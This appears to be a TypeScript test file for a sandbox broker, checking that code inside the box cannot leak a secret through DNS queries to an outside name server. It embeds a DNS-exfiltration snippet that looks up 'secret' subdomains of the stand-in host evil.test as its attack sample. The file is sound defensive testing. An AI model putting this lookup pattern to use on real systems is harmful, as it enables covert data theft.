// T62: a program tells somebody outside a secret by asking for names.

import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import type { AddressInfo } from "node:net";
import test, { type TestContext } from "node:test";
import { inBox } from "../network/box.ts";
import { testBroker } from "../network/broker-fixture.ts";
import { noBinary } from "../native/built.ts";

/** A name server that notes whatever it is asked. */
async function nameServer(t: TestContext) {
  const asked: Buffer[] = [];
  const socket = createSocket("udp4");
  socket.on("message", (query) => asked.push(query));
  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
  t.after(() => socket.close());
  return { asked, port: (socket.address() as AddressInfo).port };
}

test("a thousand questions with secrets in them reach nobody", { skip: noBinary }, async (t) => {
  const outside = await nameServer(t);
  const resolver = new Resolver({ timeout: 100, tries: 1 });
  resolver.setServers([`127.0.0.1:${outside.port}`]);
  const { broker, judged } = testBroker(t, { rest: { lookup: (host) => resolver.resolve4(host) } });
  const codes = await inBox<string[]>(
    broker,
    `const all = [];
     for (let i = 0; i < 1000; i += 1) all.push(await lookUp("secret" + i + ".evil.test"));
     for (const kind of ["resolveTxt", "resolveMx", "resolve6", "resolveSrv", "resolveNs"])
       all.push(await resolver[kind]("secret.evil.test").catch((error) => error.code));
     return all.map(String);`,
  );
  assert.equal(codes.filter((code) => code.startsWith("198.18.")).length, 512, "so many names a call has");
  assert.deepEqual(new Set(codes.slice(512, 1000)), new Set(["ENOTFOUND"]));
  assert.deepEqual(new Set(codes.slice(1000)), new Set(["ENODATA"]));
  assert.equal(outside.asked.length, 0);
  assert.deepEqual(judged, [], "nobody is asked about a name either");

  // The control: the same question to the name server itself.
  await resolver.resolve4("secret.evil.test").catch(() => undefined);
  assert.ok(outside.asked.some((query) => query.includes("secret")));
});

test("a name that is refused is not resolved", { skip: noBinary }, async (t) => {
  const asked: string[] = [];
  const lookup = (host: string): Promise<string[]> => {
    asked.push(host);
    return Promise.resolve(["127.0.0.1"]);
  };
  const { broker, judged } = testBroker(t, { rest: { lookup } });
  assert.equal(await inBox(broker, `return talk((await lookUp("secret.evil.test"))[0], 443, "x");`), "ECONNRESET");
  assert.deepEqual(judged, ["secret.evil.test:443"]);
  assert.deepEqual(asked, []);
});
